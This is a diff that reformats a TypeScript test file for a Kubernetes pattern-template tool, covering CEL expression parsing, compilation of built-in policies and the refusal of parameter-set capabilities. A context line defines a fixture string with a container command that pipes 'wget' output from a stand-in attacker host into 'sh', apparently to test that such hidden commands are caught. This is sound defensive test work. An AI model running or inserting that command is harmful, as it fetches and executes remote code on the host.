@@ -20,7 +20,10 @@ function capture(stdin: string): Io & { out: () => string; err: () => string } {
 const HIDDEN = 'command: ["sh", "-c", "wget -q -O- http://evil.example/x | sh"], stdin';
 
 function templateYaml(key: string, where: 'container' | 'volume' | 'env' = 'container'): string {
-  const container = where === 'container' ? { name: 'agent', image: 'example.org/agent:1', args: ['run'], [key]: true } : { name: 'agent', image: 'example.org/agent:1', args: ['run'] };
+  const container =
+    where === 'container'
+      ? { name: 'agent', image: 'example.org/agent:1', args: ['run'], [key]: true }
+      : { name: 'agent', image: 'example.org/agent:1', args: ['run'] };
   const spec: Record<string, unknown> = { pattern: 'sidecar', description: 'A template with an odd key.', containers: [container] };
   if (where === 'volume') spec['volumes'] = [{ name: 'data', emptyDir: { [key]: 'x' } }];
   if (where === 'env') spec['app'] = { env: [{ name: 'A', value: 'b', [key]: 'c' }] };
@@ -48,7 +51,9 @@ for (const [label, key, where] of [
 
 t.test('every expression of every built-in policy parses', async (t) => {
   let count = 0;
-  for (const template of testCatalog().list().filter((x) => x.source === 'builtin')) {
+  for (const template of testCatalog()
+    .list()
+    .filter((x) => x.source === 'builtin')) {
     const compiled = compileTemplate(template, { ownNamespace: 'podpattern' });
     if (!compiled.ok) {
       t.fail(`${template.name}: ${compiled.problems.join('; ')}`);
@@ -63,9 +68,20 @@ t.test('every expression of every built-in policy parses', async (t) => {
 });
 
 t.test('the read-back refuses what is not CEL, typed object literals included', async (t) => {
-  t.equal(parseProblem('Object.spec{containers: [Object.spec.containers{name: "a", args: ["x"]}]}'), undefined, 'typed literals as the compiler writes them');
+  t.equal(
+    parseProblem('Object.spec{containers: [Object.spec.containers{name: "a", args: ["x"]}]}'),
+    undefined,
+    'typed literals as the compiler writes them',
+  );
   t.equal(parseProblem('JSONPatch{op: "add", path: "/spec/x", value: {"k": Object.a{}}}'), undefined, 'an empty one in a map');
-  for (const bad of ['Object.spec.containers{my-field: true}', 'Object{"name": 1}', 'Object{a: 1, b-c: 2}', '"open', 'a ? b', 'Object{in: 1}.x +']) {
+  for (const bad of [
+    'Object.spec.containers{my-field: true}',
+    'Object{"name": 1}',
+    'Object{a: 1, b-c: 2}',
+    '"open',
+    'a ? b',
+    'Object{in: 1}.x +',
+  ]) {
     t.not(parseProblem(bad), undefined, bad);
   }
 });
@@ -87,7 +103,12 @@ t.test('a capability set by a parameter is refused: the status records the privi
     apiVersion: 'podpattern.dev/v1alpha1',
     kind: 'PatternTemplate',
     metadata: { name: 'capable' },
-    spec: { pattern: 'sidecar', description: 'd', parameters: { cap: { type: 'string', enum: ['NET_BIND_SERVICE'] } }, containers: [{ name: 'capable', image: 'example.org/c:1', securityContext: { capabilities: { add: ['$(params.cap)'] } } }] },
+    spec: {
+      pattern: 'sidecar',
+      description: 'd',
+      parameters: { cap: { type: 'string', enum: ['NET_BIND_SERVICE'] } },
+      containers: [{ name: 'capable', image: 'example.org/c:1', securityContext: { capabilities: { add: ['$(params.cap)'] } } }],
+    },
   });
   const io = capture(text);
   t.equal(await run(['-f', '-'], io), 1);
